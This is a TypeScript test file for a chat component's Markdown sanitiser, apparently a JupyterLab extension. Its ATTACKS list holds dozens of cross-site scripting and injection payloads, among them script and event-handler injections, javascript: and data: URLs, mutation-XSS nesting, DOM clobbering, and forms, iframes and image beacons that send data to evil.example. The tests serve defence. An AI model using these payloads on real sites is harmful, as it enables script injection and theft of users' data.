/** Untrusted Markdown: what passes, and everything that must not. */
import assert from 'node:assert/strict';
import { beforeEach, test } from 'node:test';
import { renderMarkdown } from '../src/chat/markdown';
import { openPage } from './page';

let host: HTMLElement;

beforeEach(() => {
  host = openPage();
});

function render(source: string): HTMLElement {
  host.replaceChildren(renderMarkdown(source));
  return host;
}

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=token><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x20;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="#x" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/pixel.png?leak=1)',
  '<img srcset="https://evil.example/a.png 1x">',
  '<img src="data:image/png;base64,AAAA" onload=alert(1) style="position:fixed" id=x class=y name=z>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>@import url(https://evil.example);</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<div id="jp-main-dock-panel" class="jp-Dialog" name="body">x</div>',
  '<a id=document name=cookie href="https://a.example">x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio controls src="https://evil.example/a.mp3"></audio>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<b><i><u><script>alert(1)</script></u></i></b>',
  '<<script>script>alert(1)<</script>/script>',
  '<body onload=alert(1)>',
  '<button autofocus onfocus=alert(1) popovertarget=x>x</button>',
  '<p data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</p>',
  '| a |\n|--|\n| <img src=x onerror=alert(1)> |',
  '```html"onmouseover="alert(1)\nx\n```'
];

const FORBIDDEN_TAGS =
  'script, style, iframe, object, embed, form, input, button, textarea, select, svg, math, link, meta, base, video, audio, source, template, noscript, body, head';

for (const attack of ATTACKS) {
  test(`nothing dangerous is left of ${attack.slice(0, 60)}`, () => {
    const page = render(attack);
    assert.equal(page.querySelector(FORBIDDEN_TAGS), null);
    for (const element of page.querySelectorAll('*')) {
      if (element.className.startsWith('jp-FlowDrop-')) {
        continue;
      }
      for (const { name, value } of element.attributes) {
        assert.match(name, /^(align|alt|colspan|href|rel|rowspan|src|start|target|title)$/);
        if (name === 'href') {
          assert.match(value, /^(https?|mailto):/i);
        }
        if (name === 'src') {
          assert.match(value, /^data:image\/(png|jpeg|gif|webp);base64,/i);
        }
      }
    }
  });
}

test('links open elsewhere and tell the target nothing', () => {
  const link = render('[docs](https://example.org/a?b=1)').querySelector('a')!;
  assert.equal(link.href, 'https://example.org/a?b=1');
  assert.equal(link.target, '_blank');
  assert.equal(link.rel, 'noopener noreferrer');
});

test('a picture inside the message is shown with its description', () => {
  const image = render(`![A chart](data:image/png;base64,${PIXEL})`).querySelector('img')!;
  assert.match(image.src, /^data:image\/png;base64,iVBOR/);
  assert.equal(image.alt, 'A chart');
});

test('a picture without a description still has an alternative text', () => {
  const image = render(`![](data:image/png;base64,${PIXEL})`).querySelector('img')!;
  assert.notEqual(image.alt, '');
});

test('a remote picture becomes a note without a link', () => {
  const page = render('![Cat](https://example.org/cat.png)');
  assert.equal(page.querySelector('img, a'), null);
  assert.equal(page.textContent.trim(), 'Cat (remote image not loaded)');
});

test('tables keep their alignment and scroll in a frame that the keyboard reaches', () => {
  const page = render('| a | b |\n|:--|--:|\n| 1 | 2 |');
  const frame = page.querySelector<HTMLElement>('.jp-FlowDrop-tableFrame')!;
  assert.equal(frame.tabIndex, 0);
  assert.equal(frame.querySelector('td:last-child')!.getAttribute('align'), 'right');
});

test('code keeps its text and gets no class from the message', () => {
  const code = render('```python\nprint("<b>")\n```').querySelector('pre code')!;
  assert.equal(code.textContent, 'print("<b>")\n');
  assert.equal(code.className, '');
});

test('task lists show what is done without form controls', () => {
  const page = render('- [x] one\n- [ ] two');
  assert.equal(page.querySelector('input'), null);
  assert.match(page.textContent, /☑ one/);
  assert.match(page.textContent, /☐ two/);
});

test('nesting that no parser survives is shown as plain text', () => {
  const page = render('>'.repeat(20_000));
  assert.ok(page.textContent.length > 0 || page.querySelector('blockquote'));
});

test('a very long text is shown unparsed', () => {
  const page = render(`**${'x'.repeat(400_001)}**`);
  assert.equal(page.querySelector('strong'), null);
  assert.ok(page.textContent.startsWith('**x'));
});
